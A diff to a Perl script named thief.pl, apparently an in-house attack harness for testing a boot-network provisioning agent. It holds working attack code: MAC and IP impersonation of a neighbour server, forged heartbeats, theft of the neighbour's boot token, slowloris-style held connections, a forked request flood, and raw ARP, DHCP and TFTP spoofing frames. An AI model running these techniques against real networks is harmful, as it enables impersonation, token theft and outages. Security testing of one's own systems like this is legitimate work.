@@ -1,30 +1,39 @@
 #!/usr/bin/perl
 # What root on a leased server can try against a neighbour on the boot network.
-#   thief.pl FOLDER AGENT MAC ADDRESS [STATUS CALL]
+#   thief.pl FOLDER AGENT MAC ADDRESS [until=STATUS:CALL] [only=CALL] [seconds=N] [slow=N] [flood=CONNECTIONS] [claims]
 # Takes the neighbour's MAC and ADDRESS, on a card and in a network namespace of their own, so that root stays logged
-# in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask; as itself it also says
-# what only the agent may: ARP, DHCP, TFTP. Goes on until FOLDER/stop exists or CALL was answered with STATUS.
-# FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there; "loot" gets a line "AS CALL STATUS" for
-# each answer (STATUS 0: none), bodies/AS-CALL-STATUS its last body, "ended" says that the addresses are given back.
+# in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask. Goes on until FOLDER/stop
+# exists, those seconds are over, or CALL was answered with STATUS, which it asks only as the neighbour for.
+#   only    makes that call and asks for the script, nothing else
+#   slow    holds so many requests open that never come to an end, a byte a round
+#   flood   posts pieces of a log over so many connections, as fast as they are answered
+#   claims  as itself it also says what only the agent and the neighbour may: ARP, DHCP, TFTP
+# FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there, and calls/NAME are more calls: a line
+# METHOD PATH, headers, an empty line, the body. "loot" gets a line "AS CALL STATUS COUNT" for each answer (STATUS
+# 0: none, or a frame that has no answer), bodies/AS-CALL-STATUS its last body, "token" the neighbour's boot token;
+# "ended" says that the addresses are given back.
 use strict;
 use warnings;
 use IO::Select;
 use IO::Socket::INET;
+use Time::HiRes;
 
-my ($folder, $agent, $mac, $address, @last) = @ARGV;
+my ($folder, $agent, $mac, $address, @ways) = @ARGV;
+my %way = map { my ($name, $value) = split /=/, $_, 2; ($name => $value // 1) } @ways;
+my ($last_status, $last_call) = split /:/, $way{until} // '';
 my ($nic, $own_ip) = `ip -o route get $agent` =~ /dev (\S+).* src (\S+)/;
 die "no way to $agent\n" if !$own_ip;
-my $longest = 1500;  # seconds, should nobody come to stop it
+my $longest = $way{seconds} // 1500;  # should nobody come to stop it
 $SIG{PIPE} = 'IGNORE';
 
 sub told {
-  my ($as, $call, $status, $body) = @_;
-  if ($status) {
+  my ($as, $call, $status, $body, $count) = @_;
+  if ($status && defined $body) {
     open(my $file, '>', "$folder/bodies/$as-$call-$status") or die "bodies: $!\n";
     print $file $body;
   }
   open(my $loot, '>>', "$folder/loot") or die "loot: $!\n";
-  print $loot "$as $call $status\n";
+  printf $loot "%s %s %d %d\n", $as, $call, $status, $count // 1;
   close($loot);
   return $status;
 }
@@ -50,6 +59,16 @@ sub http {
 
 sub text_of { my ($name) = @_; open(my $file, '<', $name) or return ''; local $/; return scalar <$file> }
 
+sub more_calls {
+  my @calls;
+  for my $file (sort glob "$folder/calls/*") {
+    my ($head, $body) = split /\n\n/, text_of($file), 2;
+    my ($first, @headers) = split /\n/, $head;
+    push @calls, [$file =~ s{.*/}{}r, split(/ /, $first), $body, @headers];
+  }
+  return @calls;
+}
+
 # The calls of docs/contracts.md, section 3, once each; true when it is to end.
 sub ask {
   my ($as, $from, $round) = @_;
@@ -63,32 +82,64 @@ sub ask {
   my $request = text_of("$folder/request.pem");
   my $wish = sprintf '%032x', $$ * 1000 + $round;
   my $disks = '{"disks":[],"skipped":[],"problem":null}';
+  my $forged = 'percent=&message=forged';
   my @calls = (
     ['certificate', 'POST', 'certificate?purpose=install', $request], ['settings', 'GET', "settings?request=$wish"],
     ['production', 'POST', 'certificate?purpose=production', $request], ['erased', 'POST', 'erased', $disks],
     ['inspected', 'POST', 'inspected', '{}'], ['log', 'POST', "log?sequence=$round", "stolen\n"],
+    ['beat-leap', 'POST', 'beat', "sequence=4000000000&phase=booted&$forged"],
+    ['beat-installed', 'POST', 'beat', "sequence=9998&phase=installed&$forged"],
+    ['beat-failed', 'POST', 'beat', "sequence=9999&phase=failed&$forged"], more_calls(),
     ['kernel', 'GET', 'kernel', undef, 'Range: bytes=0-1023'], ['transfer', 'GET', 'initrd/transfer']);
-  # Not through open ports: beats are not signed, this one would be believed.
-  push @calls, ['beat', 'POST', 'beat', 'sequence=9999&phase=failed&percent=&message=forged'] if !@last;
+  @calls = grep { $_->[0] eq $way{only} } @calls if $way{only};
   for my $call (@calls) {
     my ($name, $method, $path, @more) = @$call;
     return 1 if !goes_on();
     my ($status, $body) = http($from, $method, "$token/$path", @more);
     told($as, $name, $status, $body);
-    return 1 if @last && $as eq 'stolen' && $status == $last[0] && $name eq $last[1];
+    return 1 if $last_status && $as eq 'stolen' && $status == $last_status && $name eq $last_call;
   }
   return 0;
 }
 
-# Sixteen requests that never come to an end, a byte a round.
-my ($begun, @slow);
+# One that was ended is begun again; where the first gets no connection the others would get none either.
+my @slow;
 sub trickle {
-  my $token = text_of("$folder/token") or return;
-  if (!$begun++) {
-    @slow = grep { $_ } map { connected($address, 1) } 1 .. 16;
-    print $_ "POST /boot/$token/log?sequence=1 HTTP/1.0\r\nContent-Length: 65536\r\n\r\n" for @slow;
+  my $token = text_of("$folder/token");
+  return if !$token || !$way{slow};
+  for my $place (0 .. $way{slow} - 1) {
+    next if $slow[$place] && defined syswrite($slow[$place], '.');
+    $slow[$place] = connected($address, 1);
+    told('stolen', 'slow', 0, undef, $slow[$place] ? 1 : 0);
+    last if !$slow[$place];
+    print { $slow[$place] } "POST /boot/$token/log?sequence=1 HTTP/1.0\r\nContent-Length: 65536\r\n\r\n";
   }
-  syswrite($_, '.') for @slow;
+}
+
+# Some requests at a time, over a connection that stays; what was answered is counted at the end.
+sub flood {
+  my ($number) = @_;
+  my ($sequence, %answers) = ($number * 1_000_000);
+  while (goes_on()) {
+    my $token = text_of("$folder/token");
+    my $to = $token ? connected($address, 2) : undef;
+    if (!$to) { Time::HiRes::sleep(0.5); next }
+    my $ready = IO::Select->new($to);
+    while (goes_on()) {
+      my ($requests, $got, $answer) = (20, 0, '');
+      my $text = join '', map { my $body = "stolen " . ++$sequence . "\n";
+        "POST /boot/$token/log?sequence=$sequence HTTP/1.1\r\nHost: $agent\r\nContent-Length: " . length($body)
+          . "\r\n\r\n$body" } 1 .. $requests;
+      print $to $text;
+      while ($got < $requests && $ready->can_read(3) && sysread($to, $answer, 65536, length $answer)) {
+        $got = () = $answer =~ m{^HTTP/1.1 [0-9]+}mg;
+      }
+      $answers{$1}++ while $answer =~ m{^HTTP/1.1 ([0-9]+)}mg;
+      $answers{0} += $requests - $got;
+      last if $got < $requests;
+    }
+  }
+  told('stolen', 'flood', $_, undef, $answers{$_}) for sort keys %answers;
 }
 
 sub goes_on { return !-e "$folder/stop" && time - $^T < $longest }
@@ -116,29 +167,38 @@ sub claim {
   my $offer = pack('C4NnnNa4a4Na6x202N', 2, 1, 6, 0, 7, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 0x63825363);
   $offer .= "\x35\x01\x02\x36\x04$me\xff";
   my @frames = (
-    $arp->($address), $arp->($agent),
-    $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $offer),
-    $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe'),
-    $all . $own . "\x08\x00" . ip_packet($address, $agent, 1024, 8480, 'as the neighbour'));
+    ['arp', $arp->($address)], ['arp', $arp->($agent)],
+    ['dhcp', $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $offer)],
+    ['tftp', $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe')],
+    ['address', $all . $own . "\x08\x00" . ip_packet($address, $agent, 1024, 8480, 'as the neighbour')]);
   # AF_PACKET and SOCK_RAW, packet(7); protocol 0 only sends.
   socket(my $wire, 17, 3, 0) or die "no raw socket: $!\n";
   bind($wire, pack('SnlSCCa8', 17, 0, text_of("/sys/class/net/$nic/ifindex"), 0, 0, 0, '')) or die "bind: $!\n";
-  syswrite($wire, $_) for @frames;
-}
-
-sub as_the_neighbour {
-  for (my $round = 1; goes_on(); $round++) {
-    last if ask('stolen', $address, $round);
-    trickle();
-    select(undef, undef, undef, 0.5);
+  for my $frame (@frames) {
+    syswrite($wire, $frame->[1]);
+    told('own', "claim-$frame->[0]", 0);
   }
 }
 
-sub as_itself {
-  my $claims = !@last;
+sub as_the_neighbour {
+  my @children;
+  for my $number (1 .. $way{flood} // 0) {
+    my $child = fork() // die "fork: $!\n";
+    if (!$child) { flood($number); exit 0 }
+    push @children, $child;
+  }
   for (my $round = 1; goes_on(); $round++) {
-    claim() if $claims;
-    ask('own', $own_ip, $round) if $claims;
+    last if ask('stolen', $address, $round);
+    trickle();
+    Time::HiRes::sleep(0.5);
+  }
+  waitpid $_, 0 for @children;
+}
+
+sub as_itself {
+  for (my $round = 1; goes_on(); $round++) {
+    claim() if $way{claims};
+    ask('own', $own_ip, $round) if !$last_status;
     sleep 1;
   }
 }
